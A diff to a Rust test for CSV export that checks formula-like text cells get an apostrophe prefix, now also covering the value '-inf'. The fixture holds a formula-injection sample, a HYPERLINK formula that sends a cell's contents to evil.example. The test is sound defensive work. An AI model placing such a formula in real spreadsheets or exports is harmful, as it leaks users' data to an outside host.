@@ -219,7 +219,7 @@ mod tests {
 
     /// A text cell a spreadsheet would run (`=`, `+`, `-`, `@`, TAB, CR first) is written
     /// with a `'` first, as `export` writes it; a negative number stays a number, and so does
-    /// a text that is a plain number (`-5`). JSON Lines keeps the exact text.
+    /// a text that is a plain number (`-5`), but not `-inf`. JSON Lines keeps the exact text.
     #[test]
     fn csv_text_cells_that_look_like_formulas_are_prefixed_numbers_are_not() {
         let schema = Arc::new(Schema::new(vec![
@@ -234,7 +234,7 @@ mod tests {
         let s = StringArray::from(vec![
             "-5",
             "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"x\")",
-            "ok-1",
+            "-inf",
         ]);
         let d: DictionaryArray<Int32Type> = vec!["@SUM(A1)", "\tx", "plain"].into_iter().collect();
         let batch = RecordBatch::try_new(
@@ -258,7 +258,7 @@ mod tests {
             "n,s,d\n\
              -5,-5,'@SUM(A1)\n\
              7,\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A2,\"\"x\"\")\",'\tx\n\
-             -1,ok-1,plain\n"
+             -1,'-inf,plain\n"
         );
         let json = answer(Format::Jsonl);
         assert!(
